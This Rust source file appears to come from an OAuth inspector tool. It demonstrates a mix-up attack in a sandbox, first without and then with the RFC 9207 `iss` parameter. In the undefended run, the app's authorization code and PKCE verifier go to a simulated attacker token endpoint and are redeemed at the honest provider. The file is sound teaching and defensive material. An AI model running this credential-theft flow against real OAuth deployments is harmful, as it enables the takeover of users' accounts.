//! Mix-up (RFC 9700 §4.4, RFC 9207): the app knows two providers, and the user (or an attacker
//! on the network) picks the attacker's. The attacker's authorization endpoint forwards the user
//! to the honest provider, who signs them in and issues a code to the app. Without `iss` in the
//! response, the app believes the attacker's provider answered and sends it the code and the
//! verifier, which the attacker redeems at the honest provider. With `iss`, the app sees which
//! provider answered and refuses.

use inspector_engine::http::HttpClient;
use inspector_engine::pkce::{Pkce, PkceMethod, random_string};
use inspector_engine::step::{Lane, SecretMark, StepCategory};
use inspector_engine::{ErrorCode, FlowError, Step};

use super::browser::{code_marks, param, path};
use super::{APP, Ctx, DemoPart, REDIRECT, authorize_url, since};

pub async fn play(ctx: &Ctx<'_>) -> Result<Vec<DemoPart>, FlowError> {
    Ok(vec![part(ctx, false).await?, part(ctx, true).await?])
}

async fn part(ctx: &Ctx<'_>, with_iss: bool) -> Result<DemoPart, FlowError> {
    let first = ctx.rec.last_seq() + 1;
    let attacker_issuer = format!("{}/trouble/attacker", ctx.issuer);
    if !with_iss {
        ctx.switches(&["iss-missing".into()], "an honest provider that does not send iss (RFC 9207)").await?;
    }
    let pkce = Pkce::generate(PkceMethod::S256).expect("S256");
    let state = random_string(16);
    ctx.note(
        Lane::App,
        Lane::App,
        "The app knows two providers; the user signs in with the attacker's (a spoofed choice)",
        serde_json::json!({"honest": ctx.issuer, "chosen": attacker_issuer}),
        vec![],
    );
    let url = authorize_url(
        &attacker_issuer,
        "openid orders.read",
        &[("state", &state), ("code_challenge", &pkce.challenge), ("code_challenge_method", "S256")],
    );
    // The user's browser at the attacker's authorization endpoint, sent on to the honest one.
    let ex = ctx.http.send(ctx.rec, HttpClient::get(&url), &mut Vec::new()).await;
    ctx.rec.push(
        Step::http(format!("alice's browser: GET {} (the attacker's provider)", path(&url)), &ex, vec![], Ok(()))
            .category(StepCategory::BrowserNavigation)
            .lanes(Lane::Browser, Lane::Attacker),
    );
    let honest = ex.response.ok().and_then(|r| r.header("location").map(str::to_string)).ok_or_else(|| {
        FlowError::new(ErrorCode::UnexpectedStatus, "the attacker's provider did not forward the user")
    })?;
    let callback = ctx.sign_in(Lane::Browser, "alice", &honest).await?;
    ctx.note(
        Lane::Browser,
        Lane::App,
        "The honest provider's code arrives at the app",
        serde_json::json!({"url": callback}),
        code_marks(&callback),
    );
    let code = param(&callback, "code").unwrap_or_default();
    let iss = param(&callback, "iss");
    let verifier = pkce.verifier.expose().to_string();
    let (succeeded, explanation) = match iss.as_deref() {
        Some(i) if with_iss && i != attacker_issuer => {
            ctx.note(
                Lane::App,
                Lane::App,
                "The app compares iss with the provider it sent the user to: another one answered — a mix-up, refused",
                serde_json::json!({"expected": attacker_issuer, "actual": i, "spec": "RFC 9207 §2.4"}),
                vec![],
            );
            (false, format!("iss names {i}, not the provider the request went to: the code never leaves the app"))
        }
        _ => {
            let marks = vec![SecretMark::new("authorization_code", &code), SecretMark::new("code_verifier", &verifier)];
            let params = [
                ("grant_type", "authorization_code"),
                ("code", code.as_str()),
                ("redirect_uri", REDIRECT),
                ("client_id", APP),
                ("code_verifier", verifier.as_str()),
            ];
            let attacker_token = format!("{attacker_issuer}/token");
            let _ = ctx
                .token_at(
                    &attacker_token,
                    Lane::App,
                    Lane::Attacker,
                    "Without iss the app thinks the attacker's provider answered: it sends the code and verifier there",
                    &params,
                    marks.clone(),
                )
                .await;
            let (_, got) = ctx
                .token(
                    Lane::Attacker,
                    "The attacker redeems the honest provider's code with the app's verifier",
                    &params,
                    marks,
                )
                .await;
            match got {
                Ok(_) => (true, "the attacker holds alice's tokens from the honest provider".to_string()),
                Err(e) => (false, format!("the honest provider refused the attacker ({e})")),
            }
        }
    };
    ctx.verdict(succeeded, &explanation);
    if !with_iss {
        ctx.switches(&[], "the strict sandbox again").await?;
    }
    Ok(DemoPart {
        title: if with_iss { "The response carries iss".into() } else { "No iss in the response".into() },
        defended: with_iss,
        attack_succeeded: succeeded,
        explanation,
        steps: since(ctx.rec, first),
    })
}
